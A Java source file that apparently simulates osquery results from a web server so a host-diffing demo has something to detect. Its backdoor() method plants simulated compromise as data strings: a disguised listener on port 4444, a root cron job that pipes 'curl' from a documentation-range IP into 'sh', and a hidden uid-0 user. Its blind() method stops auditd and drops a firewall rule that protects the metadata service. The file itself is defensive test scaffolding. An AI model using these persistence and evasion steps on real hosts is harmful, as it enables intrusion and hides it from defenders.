package io.diffy.standalone.demo;

import io.diffy.schemas.Instance;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;

/** The rows of one web server, in osquery's columns. */
final class SimulatedHost {
  private static final String ANY = "0.0.0.0";

  private final List<Map<String, String>> processes = new ArrayList<>();
  private final List<Map<String, String>> listeners = new ArrayList<>();
  private final List<Map<String, String>> crontab = new ArrayList<>();
  private final List<Map<String, String>> modules = new ArrayList<>();
  private final List<Map<String, String>> users = new ArrayList<>();
  private final List<Map<String, String>> iptables = new ArrayList<>();
  private final Random boot;
  private final Random now;

  /**
   * @param boot what differs from host to host and stays
   * @param now what differs from answer to answer
   */
  SimulatedHost(Instance instance, Random boot, Random now) {
    this.boot = boot;
    this.now = now;
    process("systemd", "/usr/lib/systemd/systemd", "/sbin/init", "0");
    listen(process("sshd", "/usr/sbin/sshd", "/usr/sbin/sshd -D", "0"), ANY, 22);
    Map<String, String> nginx =
        process("nginx", "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx", "0");
    listen(nginx, ANY, 80);
    listen(nginx, ANY, 443);
    process("nginx", "/usr/sbin/nginx", "nginx: worker process", "33");
    process("nginx", "/usr/sbin/nginx", "nginx: worker process", "33");
    Map<String, String> app =
        process(
            "java",
            "/usr/lib/jvm/java-17/bin/java",
            "java -Dnode=%s -Dbind=%s -jar /opt/shop/shop.jar"
                .formatted(instance.hostname(), instance.privateIp()),
            "1001");
    listen(app, "127.0.0.1", 8080);
    // The JMX connector takes any port, another one at every boot.
    listen(app, "127.0.0.1", 32768 + boot.nextInt(28000));
    process(
        "agent",
        "/opt/cloudwatch/bin/agent",
        "/opt/cloudwatch/bin/agent --instance " + instance.instanceId(),
        "998");
    listen(process("auditd", "/usr/sbin/auditd", "/usr/sbin/auditd", "0"), "127.0.0.1", 60);
    process("cron", "/usr/sbin/cron", "/usr/sbin/cron -f", "0");

    cron("17", "*", "root cd / && run-parts --report /etc/cron.hourly", "/etc/crontab");
    cron("25", "6", "root test -x /usr/sbin/anacron || run-parts /etc/cron.daily", "/etc/crontab");
    cron("*/5", "*", "shop /opt/shop/bin/rotate-sessions", "/etc/cron.d/shop");

    module("nf_tables", "nft_chain_nat,nft_compat");
    module("ena", "-");
    module("overlay", "-");

    user("root", "0", "/root", "/bin/bash");
    user("www-data", "33", "/var/www", "/usr/sbin/nologin");
    user("shop", "1001", "/opt/shop", "/usr/sbin/nologin");
    user("ops", "1000", "/home/ops", "/bin/bash");

    rule("INPUT", "ACCEPT", "0.0.0.0", "22");
    rule("INPUT", "ACCEPT", "0.0.0.0", "443");
    rule("OUTPUT", "DROP", "169.254.169.254", "80");
  }

  /** A rogue listener, the crontab line that brings it back, and a user to come back as. */
  void backdoor() {
    listen(
        process("kworkerd", "/var/tmp/.cache/kworkerd", "/var/tmp/.cache/kworkerd -l 4444", "0"),
        ANY,
        4444);
    cron(
        "*/10",
        "*",
        "root curl -fsS http://203.0.113.66/k.sh | sh",
        "/etc/cron.d/apt-compat-check");
    user("sysadm", "0", "/var/tmp", "/bin/bash");
  }

  /** The audit daemon stopped, and the rule gone that keeps the metadata service out of reach. */
  void blind() {
    processes.removeIf(row -> row.get("name").equals("auditd"));
    listeners.removeIf(row -> row.get("name").equals("auditd"));
    iptables.removeIf(row -> row.get("target").equals("DROP"));
  }

  /** Query to rows, in any order, as osquery gives them. */
  Map<String, List<Map<String, String>>> answers() {
    Map<String, List<Map<String, String>>> answers = new TreeMap<>();
    answers.put("crontab", crontab);
    answers.put("iptables", iptables);
    answers.put("kernel_modules", modules);
    answers.put("listening_ports", listeners);
    answers.put("processes", processes);
    answers.put("users", users);
    answers.values().forEach(rows -> Collections.shuffle(rows, now));
    return answers;
  }

  private Map<String, String> process(String name, String path, String cmdline, String uid) {
    Map<String, String> row =
        row(
            "pid",
            Integer.toString(300 + boot.nextInt(30000)),
            "name",
            name,
            "path",
            path,
            "cmdline",
            cmdline,
            "uid",
            uid,
            "gid",
            uid,
            "euid",
            uid,
            "on_disk",
            "1",
            "parent",
            "1",
            "state",
            now.nextInt(10) == 0 ? "R" : "S",
            "cwd",
            "/",
            "start_time",
            Integer.toString(1_700_000_000 + boot.nextInt(1_000_000)));
    processes.add(row);
    return row;
  }

  private void listen(Map<String, String> process, String address, int port) {
    listeners.add(
        row(
            "address", address,
            "port", Integer.toString(port),
            "protocol", "6",
            "family", "2",
            "pid", process.get("pid"),
            "name", process.get("name"),
            "path", process.get("path"),
            "cmdline", process.get("cmdline")));
  }

  private void cron(String minute, String hour, String command, String path) {
    crontab.add(
        row(
            "event",
            "",
            "minute",
            minute,
            "hour",
            hour,
            "day_of_month",
            "*",
            "month",
            "*",
            "day_of_week",
            "*",
            "command",
            command,
            "path",
            path));
  }

  private void module(String name, String usedBy) {
    modules.add(
        row(
            "name",
            name,
            "size",
            Integer.toString(16384 * (1 + name.length())),
            "used_by",
            usedBy,
            "status",
            "Live",
            "address",
            "0x" + Long.toHexString(0xffffffffc0000000L + boot.nextInt(1 << 24))));
  }

  private void user(String name, String uid, String home, String shell) {
    users.add(
        row(
            "uid",
            uid,
            "gid",
            uid,
            "username",
            name,
            "description",
            "",
            "directory",
            home,
            "shell",
            shell));
  }

  private void rule(String chain, String target, String destination, String port) {
    iptables.add(
        row(
            "filter_name",
            "filter",
            "chain",
            chain,
            "policy",
            "ACCEPT",
            "target",
            target,
            "protocol",
            "6",
            "src_ip",
            "0.0.0.0",
            "dst_ip",
            destination,
            "dst_port",
            port,
            "packets",
            Integer.toString(now.nextInt(1_000_000)),
            "bytes",
            Integer.toString(now.nextInt(100_000_000))));
  }

  private static Map<String, String> row(String... pairs) {
    Map<String, String> row = new TreeMap<>();
    for (int i = 0; i < pairs.length; i += 2) {
      row.put(pairs[i], pairs[i + 1]);
    }
    return row;
  }
}
